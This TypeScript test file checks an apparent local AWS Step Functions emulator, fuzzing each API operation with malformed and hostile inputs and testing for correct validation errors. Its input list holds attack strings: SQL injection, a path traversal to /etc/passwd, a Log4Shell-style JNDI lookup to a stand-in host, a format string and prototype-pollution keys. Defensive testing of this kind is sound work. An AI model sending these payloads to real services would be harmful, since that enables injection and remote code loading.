import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { mintTaskToken } from "../engine/task-token.ts";
import type { EventId } from "../engine/units.ts";
import { OPERATIONS } from "./operations/registry.ts";
import { REQUESTS, type ServedOperation } from "./shapes/requests.ts";
import { PASS, ROLE_ARN } from "./testing-api.ts";
import { TestingServer } from "./testing-server.ts";

const AT = "arn:aws:states:us-east-1:123456789012";
const MACHINE = `${AT}:stateMachine:orders`;
const EXECUTION = `${AT}:execution:orders:run`;

const MAP_RUN = `${AT}:mapRun:orders/each:0f1e2d3c-0000-4000-8000-000000000000`;
/** Nothing is there that these could answer: Express executions, and Map Runs, of this server. */
const REFUSED: ReadonlySet<string> = new Set([
  "StartSyncExecution",
  "DescribeMapRun",
  "UpdateMapRun",
  "RedriveExecution",
]);
const statusOf = (operation: string): number => (REFUSED.has(operation) ? 400 : 200);

const ROUTING = [{ stateMachineVersionArn: `${MACHINE}:1`, weight: 100 }];
const TOKEN = mintTaskToken({ executionArn: EXECUTION, scheduledId: 3 as EventId, nonce: "0".repeat(32) });

/** A request of each operation that the server below answers with 200 (or, for Express, Map Runs and what runs, as it must). */
const GOOD: Readonly<Record<ServedOperation, Readonly<Record<string, unknown>>>> = {
  CreateStateMachine: { name: "orders", definition: PASS, roleArn: ROLE_ARN },
  DescribeStateMachine: { stateMachineArn: MACHINE },
  UpdateStateMachine: { stateMachineArn: MACHINE, definition: PASS },
  DeleteStateMachine: { stateMachineArn: `${MACHINE}-gone` },
  ListStateMachines: {},
  ValidateStateMachineDefinition: { definition: PASS },
  StartExecution: { stateMachineArn: MACHINE },
  StartSyncExecution: { stateMachineArn: MACHINE },
  StopExecution: { executionArn: EXECUTION },
  RedriveExecution: { executionArn: `${AT}:execution:orders:open` },
  DescribeExecution: { executionArn: EXECUTION },
  DescribeStateMachineForExecution: { executionArn: EXECUTION },
  ListExecutions: { stateMachineArn: MACHINE },
  GetExecutionHistory: { executionArn: EXECUTION },
  ListMapRuns: { executionArn: EXECUTION },
  DescribeMapRun: { mapRunArn: MAP_RUN },
  UpdateMapRun: { mapRunArn: MAP_RUN, maxConcurrency: 1 },
  TestState: { definition: '{"Type":"Pass","End":true}' },
  TagResource: { resourceArn: MACHINE, tags: [] },
  UntagResource: { resourceArn: MACHINE, tagKeys: [] },
  ListTagsForResource: { resourceArn: MACHINE },
  PublishStateMachineVersion: { stateMachineArn: MACHINE },
  ListStateMachineVersions: { stateMachineArn: MACHINE },
  DeleteStateMachineVersion: { stateMachineVersionArn: `${MACHINE}:77` },
  CreateStateMachineAlias: { name: "live", routingConfiguration: ROUTING },
  DescribeStateMachineAlias: { stateMachineAliasArn: `${MACHINE}:live` },
  UpdateStateMachineAlias: { stateMachineAliasArn: `${MACHINE}:live`, routingConfiguration: ROUTING },
  DeleteStateMachineAlias: { stateMachineAliasArn: `${MACHINE}:gone` },
  ListStateMachineAliases: { stateMachineArn: MACHINE },
  CreateActivity: { name: "pack" },
  DescribeActivity: { activityArn: `${AT}:activity:pack` },
  DeleteActivity: { activityArn: `${AT}:activity:gone` },
  ListActivities: {},
  GetActivityTask: { activityArn: `${AT}:activity:pack` },
  SendTaskSuccess: { taskToken: TOKEN, output: "{}" },
  SendTaskFailure: { taskToken: TOKEN },
  SendTaskHeartbeat: { taskToken: TOKEN },
};

const OF_NO_TYPE: readonly unknown[] = [0, -1, 1.5, 1e300, true, [], [[]], {}, { a: { a: 1 } }];
const TEXTS: readonly unknown[] = [
  "",
  " ",
  "x",
  "\u0000",
  "\ud800",
  "😀",
  "%s%n",
  "'; DROP TABLE executions; --",
  "../../etc/passwd",
  "${jndi:ldap://evil.test}",
  "__proto__",
  "constructor",
  `${AT}:stateMachine:`,
  `${AT}:stateMachine:__proto__`,
  `${AT}:stateMachine:orders:1:2:3`,
  `${AT}:execution:orders`,
  `${AT}:execution::`,
  `${AT}:express:orders:run:id`,
  "arn:aws:iam::123456789012:role/",
  "{",
  "[".repeat(10_000),
  "a".repeat(81),
  "a".repeat(257),
  "a".repeat(4_000),
  "a".repeat(300_000),
];

const server = new TestingServer();

beforeAll(async () => {
  await server.listen();
  await server.call("CreateStateMachine", GOOD.CreateStateMachine);
  await server.call("PublishStateMachineVersion", GOOD.PublishStateMachineVersion);
  await server.call("CreateStateMachineAlias", GOOD.CreateStateMachineAlias);
  await server.call("CreateActivity", GOOD.CreateActivity);
  await server.call("StartExecution", { stateMachineArn: MACHINE, name: "run" });
  await server.call("StartExecution", { stateMachineArn: MACHINE, name: "open" });
});

afterAll(() => server[Symbol.asyncDispose]());

describe.each([...OPERATIONS.keys()] as ServedOperation[])("%s", (operation) => {
  const { members, required } = REQUESTS[operation];

  test("answers a good request", async () => {
    const { status, text } = await server.call(operation, GOOD[operation]);
    expect(status, text).toBe(statusOf(operation));
  });

  test.each(required)("refuses to do without %s", async (member) => {
    for (const absent of [{ [member]: undefined }, { [member]: null }]) {
      const { status, text } = await server.call(operation, { ...GOOD[operation], ...absent });
      expect(status).toBe(400);
      expect(JSON.parse(text)).toMatchObject({
        __type: "ValidationException",
        message: expect.stringMatching(
          `1 validation error detected: Value( null)? at '${member}' failed to satisfy constraint: Member must not be null`,
        ),
      });
    }
  });

  test.each(Object.keys(members))("answers every hostile %s with a refusal or an answer", async (member) => {
    for (const value of [...OF_NO_TYPE, ...TEXTS]) {
      const { status, text } = await server.call(operation, { ...GOOD[operation], [member]: value });
      const what = `${member} = ${String(JSON.stringify(value)).slice(0, 60)}: ${text.slice(0, 200)}`;
      // 409: a ConflictException, where the value differs from what is there.
      expect([200, 400, 409], what).toContain(status);
      if (status !== 200) expect(JSON.parse(text).__type, what).toMatch(/^[A-Z]\w+$/);
      // Nothing of a refusal grows with what was sent.
      expect(text.length, what).toBeLessThan(10_000);
    }
    expect((await server.call(operation, GOOD[operation])).status).toBe(statusOf(operation));
  });

  test.each(
    Object.entries(members)
      .filter(([, shape]) => shape.kind === "text")
      .map(([name]) => name),
  )("another JSON type for %s is a SerializationException", async (member) => {
    for (const value of OF_NO_TYPE) {
      const { status, text } = await server.call(operation, { ...GOOD[operation], [member]: value });
      expect([status, JSON.parse(text).__type]).toEqual([400, "SerializationException"]);
    }
  });

  test("is not led astray by members of every object", async () => {
    const body = JSON.stringify(GOOD[operation]).replace(
      "{",
      '{"__proto__":{"name":"x","maxResults":-1},"constructor":{},"toString":1,',
    );
    const { status } = await server.call(operation, body.replace(",}", "}"));
    expect(status).toBe(statusOf(operation));
    expect(({} as Record<string, unknown>)["maxResults"]).toBeUndefined();
  });
});
